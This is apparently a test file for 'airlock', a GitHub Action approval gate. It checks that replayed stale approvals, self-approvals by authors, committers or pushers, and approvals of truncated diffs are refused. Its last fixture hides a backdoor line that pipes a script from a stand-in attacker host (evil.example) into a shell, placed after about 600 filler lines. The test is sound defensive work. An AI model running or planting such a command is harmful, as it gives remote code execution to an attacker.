/**
 * Approvals that must not turn the gate green: one written before the run it would approve
 * (a queued job or a re-run replaying an old comment or review), and one by someone who
 * authored, committed or pushed commits of the pull request. The bundled action against the
 * OpenAPI-checked stand-in, with a real git repository behind it.
 */
import {
  PEOPLE,
  PR_NUMBER,
  README_PATCH,
  TOKEN,
  closeWorld,
  commentEvent,
  makeWorld,
  publish,
  runAction,
  webhook,
  writeRunFolder
} from '../../__fixtures__/action-harness.js'
import type { ActionRun, World } from '../../__fixtures__/action-harness.js'
import type { User } from '../../__fixtures__/github-stand-in.js'

let world: World
let diff: string

beforeEach(async () => {
  world = await makeWorld()
})
afterEach(async () => {
  await closeWorld(world)
})

/** Publishes run `runId` (README_PATCH) on the pull request's current head. */
async function publishRun(runId: string): Promise<string> {
  const head = world.api.headSha(world.api.pulls.get(PR_NUMBER) as never)
  const report = writeRunFolder(world.out, { runId, headSha: head, patch: README_PATCH })
  diff = report.diff.sha256 as string
  expect((await publish(world)).code).toBe(0)
  return head
}

function approve(
  eventName: string,
  payload: Record<string, unknown>,
  inputs: Record<string, string> = {}
): Promise<ActionRun> {
  return runAction({
    inputs: { mode: 'approve', 'github-token': TOKEN, ...inputs },
    eventName,
    payload,
    apiUrl: world.api.url,
    workspace: world.workspace
  })
}

function reviewEvent(user: User, commitId: string, state = 'approved'): Record<string, unknown> {
  const at = new Date().toISOString()
  const id = 500_000 + world.api.reviews.length
  world.api.reviews.push({
    id,
    pull: PR_NUMBER,
    user,
    body: '',
    state: state.toUpperCase() as 'APPROVED',
    commit_id: commitId,
    submitted_at: at
  })
  return webhook('pull_request_review', 'submitted', (p) => {
    p.pull_request.number = PR_NUMBER
    p.pull_request.head.sha = commitId
    p.review.id = id
    p.review.state = state
    p.review.commit_id = commitId
    p.review.submitted_at = at
    p.review.body = null
    p.review.user.login = user.login
    p.review.user.type = user.type
  })
}

function gate(sha: string): string[] {
  return world.api.statuses
    .filter((s) => s.sha === sha && s.context === 'airlock/approval')
    .map((s) => s.state)
}

/** A pause so that what follows carries a later time stamp than what came before. */
const tick = (): Promise<void> => new Promise((r) => setTimeout(r, 20))

describe('an approval older than the run it would approve is refused', () => {
  test('a comment written for head A, replayed after a push that produced the same diff, does not turn head B green', async () => {
    await publishRun('300-1')
    // Written for head A; its job is queued (or re-run later).
    const oldComment = commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    await tick()
    const headB = world.api.push('feature', 'the same change again')
    await publishRun('300-2')
    expect(gate(headB)).toEqual(['pending'])
    const run = await approve('issue_comment', oldComment)
    expect(run.outputs.approved).toBe('false')
    expect(gate(headB)).toEqual(['pending'])
    expect(world.api.comments.at(-1)?.body).toMatch(
      /written before the latest report was posted .*approve again/
    )
    // A comment written now, after the report, approves.
    const fresh = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(fresh.outputs.approved).toBe('true')
    expect(gate(headB)).toEqual(['pending', 'success'])
  })

  test('an approving review submitted before the report, replayed by a re-run, is refused', async () => {
    const head = world.base
    const oldReview = reviewEvent(PEOPLE.maintainer, head)
    await tick()
    await publishRun('301-1')
    // The review is newer by id here (it was pushed to the list after), so only its time tells.
    ;(oldReview.review as { id: number }).id = 9_000_000
    const run = await approve('pull_request_review', oldReview)
    expect(run.outputs.approved).toBe('false')
    expect(gate(head)).toEqual(['pending'])
  })

  test('an approval replayed after a writer requested changes does not restore the gate', async () => {
    const head = await publishRun('302-1')
    const comment = commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    expect((await approve('issue_comment', comment)).outputs.approved).toBe('true')
    await tick()
    await approve('pull_request_review', reviewEvent(PEOPLE.maintainer, head, 'changes_requested'))
    expect(gate(head)).toEqual(['pending', 'success', 'pending'])
    const replay = await approve('issue_comment', comment)
    expect(replay.outputs.approved).toBe('false')
    expect(gate(head)).toEqual(['pending', 'success', 'pending'])
  })

  test('an approval that carries no time is refused', async () => {
    await publishRun('303-1')
    const comment = commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    delete (comment.comment as Record<string, unknown>).created_at
    const run = await approve('issue_comment', comment)
    expect(run.outputs.approved).toBe('false')
    expect(world.api.comments.at(-1)?.body).toMatch(/carries no time/)
  })
})

describe('whoever authored, committed or pushed commits of the pull request cannot approve it', () => {
  test("a writer who pushed the head onto someone else's pull request cannot approve it; another writer can", async () => {
    const head = world.api.push('feature', 'a commit of the opener, pushed by a writer', {
      pusher: PEOPLE.writer
    })
    await publishRun('310-1')
    const run = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(run.outputs.approved).toBe('false')
    expect(gate(head)).toEqual(['pending'])
    expect(world.api.comments.at(-1)?.body).toMatch(/pushed commits of this pull request/)
    const other = await approve('pull_request_review', reviewEvent(PEOPLE.maintainer, head))
    expect(other.outputs.approved).toBe('true')
    expect(gate(head)).toEqual(['pending', 'success'])
  })

  test('the author and the committer of a commit of the pull request cannot approve it', async () => {
    world.api.emails.set('wendy@example.com', PEOPLE.writer)
    world.api.emails.set('mo@example.com', PEOPLE.maintainer)
    const head = world.api.push('feature', 'written by one, committed by another', {
      author: 'wendy@example.com',
      committer: 'mo@example.com'
    })
    await publishRun('311-1')
    const byAuthor = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(byAuthor.outputs.approved).toBe('false')
    expect(world.api.comments.at(-1)?.body).toMatch(/authored commits of this pull request/)
    const byCommitter = await approve('pull_request_review', reviewEvent(PEOPLE.maintainer, head))
    expect(byCommitter.outputs.approved).toBe('false')
    expect(world.api.comments.at(-1)?.body).toMatch(/committed commits of this pull request/)
    expect(gate(head)).toEqual(['pending'])
  })

  test('allow-self-approval keeps its meaning: the pusher may then approve', async () => {
    const head = world.api.push('feature', 'pushed by a writer', { pusher: PEOPLE.writer })
    await publishRun('312-1')
    const run = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`),
      { 'allow-self-approval': 'true' }
    )
    expect(run.outputs.approved).toBe('true')
    expect(gate(head)).toEqual(['pending', 'success'])
  })

  test('when no push of the head can be found, the approval is refused (fail-closed)', async () => {
    world.api.activity.splice(0)
    await publishRun('313-1')
    const run = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(run.outputs.approved).toBe('false')
    expect(world.api.comments.at(-1)?.body).toMatch(/who pushed head [0-9a-f]{12} cannot be read/)
  })
})

describe('a diff longer than the review shows is never approved unseen without saying so', () => {
  /** About 30 KB of harmless notes, then a backdoor past the review's window. */
  const notes = Array.from({ length: 600 }, (_, i) => `+note ${i}: nothing to see here, move on.`)
  const BACKDOOR = '+require("child_process").execSync("curl https://evil.example | sh")'
  const LONG_PATCH =
    'diff --git a/NOTES.md b/NOTES.md\nnew file mode 100644\n--- /dev/null\n+++ b/NOTES.md\n' +
    `@@ -0,0 +1,${notes.length + 1} @@\n${notes.join('\n')}\n${BACKDOOR}\n`

  async function publishLong(): Promise<string> {
    const report = writeRunFolder(world.out, {
      runId: '320-1',
      headSha: world.base,
      patch: LONG_PATCH
    })
    diff = report.diff.sha256 as string
    expect((await publish(world)).code).toBe(0)
    return diff
  }

  test('the review says the diff was cut and how to approve; a prefix or a review approval is refused; the full hash with "unseen" approves, and the gate says so', async () => {
    await publishLong()
    const review = world.api.reviews.find((r) => r.body.includes('airlock:report'))
    expect(review?.body).not.toContain('curl https://evil.example')
    expect(review?.body).toMatch(
      /\*\*Gate:\*\* ⏳ pending — ⚠️ the diff .* does not fit in this review/
    )
    expect(review?.body).toContain('/airlock approve &lt;its full SHA-256&gt; unseen')
    expect(world.api.statuses.at(-1)?.description).toMatch(/not all shown.*unseen/)

    const byPrefix = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(byPrefix.outputs.approved).toBe('false')
    expect(world.api.comments.at(-1)?.body).toMatch(/the review did not show the whole diff/)
    const byFullHashAlone = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff}`)
    )
    expect(byFullHashAlone.outputs.approved).toBe('false')
    const byReview = await approve(
      'pull_request_review',
      reviewEvent(PEOPLE.maintainer, world.base)
    )
    expect(byReview.outputs.approved).toBe('false')
    expect(gate(world.base)).toEqual(['pending'])

    const stated = await approve(
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff} unseen`)
    )
    expect(stated.outputs.approved).toBe('true')
    expect(gate(world.base)).toEqual(['pending', 'success'])
    expect(world.api.statuses.at(-1)?.description).toBe(
      `approved by @${PEOPLE.writer.login} for diff ${diff.slice(0, 12)}, parts not shown in the review`
    )
  })
})
